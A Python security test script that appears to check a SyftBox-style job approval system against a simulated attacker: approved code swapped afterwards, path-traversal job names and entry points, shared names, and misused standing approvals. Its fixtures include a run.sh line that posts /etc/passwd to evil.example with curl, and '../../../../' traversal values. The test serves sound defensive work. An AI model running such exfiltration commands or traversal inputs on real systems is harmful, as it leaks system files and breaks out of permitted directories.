#!/usr/bin/env python3
"""Scientists with the Python client attack an owner of ours: what was approved is swapped, names and entry points lead elsewhere,
two people use one name, and a standing approval is abused. Once for each generation.

  attacks.py                        on our own server
  attacks.py --drive stand-in       on the independent stand-in
"""
import argparse, datetime, os, shutil, sys, tempfile
from pathlib import Path

from datasets import Story as Datasets
from flow import Steps, eq
from sides import COMMANDS, Drive, Side, token

OWNER, ATTACKER, OTHER = "do@example.org", "mallory@example.org", "ds@example.org"
HONEST = "print('honest')\n"
SWAPS = {
    "run.sh": ("run-script", "#!/bin/bash\ncurl https://evil.example -d @/etc/passwd\n"),
    "code/main.py": ("code", "print('hacked')\n"),
    "code/json.py": ("shadow", "print('hacked')\n"),
}


class Story(Datasets):
    def __init__(self, kind, work, endpoint):
        self.work, self.endpoint, self.kind = work, endpoint, kind
        self.steps, self.sides = Steps(strict=True), []
        self.owner = self.side("ours", "do", OWNER)
        self.attacker = self.side(kind, "ds", ATTACKER)
        self.other = self.side(kind, "ds", OTHER)

    def submit(self, side, name, code=HONEST):
        """One file of one name: where it came from is part of what a Python client sends."""
        file = self.files("code", {"main.py": code}) / "main.py"
        side("submit-python-job", "--user", OWNER, "--code", file, "--name", name)
        self.owner("sync")

    def inbox(self, side, name):
        segment = "v1/" if self.kind == "python010" else ""
        return f"app_data/job/inbox/{side.email}/{segment}{name}"

    def write(self, side, name, path, text):
        side("write-file", "--datasite", OWNER, "--path", f"{self.inbox(side, name)}/{path}", "--content", text)
        self.owner("sync")

    def job(self, name, who=ATTACKER):
        return self.syft(self.owner, "job", "show", name, "--from", who)["job"]

    def run_is_refused(self, name, code, who=ATTACKER):
        error = self.syft(self.owner, "job", "run", name, "--from", who, "--no-sandbox", fails=True)["error"]
        eq(error["code"], code, name)

    def config(self, name):
        return (Path(self.owner.home) / f"SyftBox_{OWNER}" / OWNER / self.inbox(self.attacker, name) / "config.yaml").read_text()


def in_a_month():
    return (datetime.date.today() + datetime.timedelta(days=30)).isoformat()


def swaps(s):
    step = s.steps.step
    for path, (name, evil) in SWAPS.items():
        def run(path=path, name=name, evil=evil):
            s.submit(s.attacker, name)
            eq(s.job(name)["script"], "as-derived")
            eq(s.syft(s.owner, "job", "approve", name, "--reason", "read it")["job"]["status"], "approved")
            s.write(s.attacker, name, path, evil)
            job = s.job(name)
            eq((job["status"], job["approval"]["holds"]), ("pending", False))
            [change] = job["changes"]
            eq((change["path"], change["change"]), (path, "added" if path == "code/json.py" else "changed"))
            assert f"+{evil.splitlines()[-1]}\n" in change["diff"], change
            eq(job["approval"]["reason"], "read it")
            s.run_is_refused(name, "job-refused")
        step(f"W2: {path} is swapped after the approval: it waits, with a diff, and does not run", run)

    def run():
        s.submit(s.attacker, "settings")
        s.syft(s.owner, "job", "approve", "settings")
        s.write(s.attacker, "settings", "config.yaml", s.config("settings").replace("entrypoint: main.py", "entrypoint: other.py"))
        [change] = s.job("settings")["changes"]
        assert "-entrypoint: main.py\n+entrypoint: other.py\n" in change["diff"], change
        s.run_is_refused("settings", "job-refused")
    step("W2: another entry point after the approval: it waits, with a diff", run)

    def run():
        s.submit(s.attacker, "back")
        s.syft(s.owner, "job", "approve", "back")
        s.write(s.attacker, "back", "code/main.py", "print('hacked')\n")
        s.write(s.attacker, "back", "code/main.py", HONEST)
        job = s.job("back")
        eq((job["status"], job["changes"]), ("pending", []))
        s.syft(s.owner, "job", "reject", "back")
    step("W2: a swap that is taken back does not bring the approval back", run)


def names(s):
    step = s.steps.step

    def run():
        s.submit(s.attacker, "title")
        s.write(s.attacker, "title", "config.yaml", s.config("title").replace("name: title", "name: ../../../../escape"))
        listed = [j["name"] for j in s.syft(s.owner, "job", "list")["jobs"]]
        assert "title" in listed and not any("escape" in name for name in listed), listed
        s.syft(s.owner, "job", "approve", "title", "--from", ATTACKER)
        assert not [path for path in Path(s.owner.home).rglob("*escape*")]
    step("W7: a job that calls itself ../../../../escape is known by its folder", run)

    def run():
        s.submit(s.attacker, "start")
        s.write(s.attacker, "start", "config.yaml", s.config("start").replace("entrypoint: main.py", "entrypoint: ../../../../x.py"))
        listed = s.syft(s.owner, "job", "list")
        [broken] = [entry for entry in listed["unreadable"] if "start" in entry["path"]]
        assert "`entrypoint` is no path below `code/`" in broken["reason"], broken
        assert "title" in [j["name"] for j in listed["jobs"]], "it hides no other"
    step("W7: an entry point that leads elsewhere makes no job, and hides no other", run)

    def run():
        s.submit(s.other, "same")
        s.submit(s.attacker, "same", "print('hacked')\n")
        s.syft(s.owner, "job", "approve", "same", "--from", OTHER)
        eq([s.job("same", who)["status"] for who in (OTHER, ATTACKER)], ["approved", "pending"])
        eq(s.job("same", ATTACKER)["approval"], None)
        s.run_is_refused("same", "job-refused", ATTACKER)
    step("W7: two people use one name: what was approved of one is not approved of the other", run)


def standing(s):
    step = s.steps.step

    def run():
        s.submit(s.attacker, "march")
        made = s.syft(s.owner, "job", "allow", "march", "--from", ATTACKER, "--until", in_a_month(), "--times", "3")["standing"]
        s.id = made["id"]
        eq((made["left"], made["people"]), (3, [ATTACKER]))
        s.owner("sync")
        eq(s.job("march")["status"], "approved")
        s.submit(s.attacker, "april")
        eq((s.job("april")["status"], s.job("april")["approval"]["standing"]), ("approved", s.id))
        s.attacker("sync")
        mine = {job["name"]: job["status"] for job in s.attacker("list-jobs")["jobs"]}
        eq(mine["april"], "approved", "as the Python client reads it")
    step("a like job of the same person is approved by a standing approval", run)

    def run():
        s.submit(s.attacker, "may", "print('hacked')\n")
        job = s.job("may")
        eq((job["status"], job["standing"]["obstacles"]), ("pending", ["`code/main.py` differs"]))
        s.submit(s.attacker, "june")
        s.write(s.attacker, "june", "run.sh", "#!/bin/bash\ncurl evil.example\n")
        eq(s.job("june")["status"], "pending", "run.sh is part of it")
        s.submit(s.other, "july")
        eq(s.job("july", OTHER)["status"], "pending", "another person")
        left = s.syft(s.owner, "job", "allowed", s.id)["standing"]["left"]
        eq(left, 0, "june was approved, and voided by its change")
        s.submit(s.attacker, "august")
        eq(s.job("august")["status"], "pending", "used up")
    step("W2: other code, another run.sh, another person, one too many: all wait", run)


def story(s):
    def run():
        s.owner("login-do")
        for side in (s.attacker, s.other):
            s.meet(side)
        half = {half: s.files(half, {"d.csv": half}) for half in ("mock", "private")}
        s.syft(s.owner, "dataset", "create", "nums", "--mock", half["mock"], "--private", half["private"], "--users", "any")
    s.steps.step(f"an owner of ours works with two scientists ({s.kind})", run)
    swaps(s)
    names(s)
    standing(s)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--drive", choices=["our", "stand-in"], default="our")
    a = ap.parse_args()
    failed = 0
    for kind in ["python", *(["python010"] if os.environ.get("SYFT_PY010") else [])]:
        work = Path(tempfile.mkdtemp(prefix=f"syft-attacks-{kind}-")).resolve()
        drive = Drive.ours(work, [OWNER, ATTACKER, OTHER]) if a.drive == "our" else Drive.stand_in(work)
        s = None
        try:
            print(f"== attacks by {kind} on {a.drive} drive", flush=True)
            s = Story(kind, work, drive.endpoint)
            story(s)
        finally:
            for side in s.sides if s else []:
                side.close()
            drive.stop()
        failed += s.steps.fail
        if s.steps.fail:
            print(f"logs: {work}")
        else:
            shutil.rmtree(work, ignore_errors=True)
    print(f"\n{failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
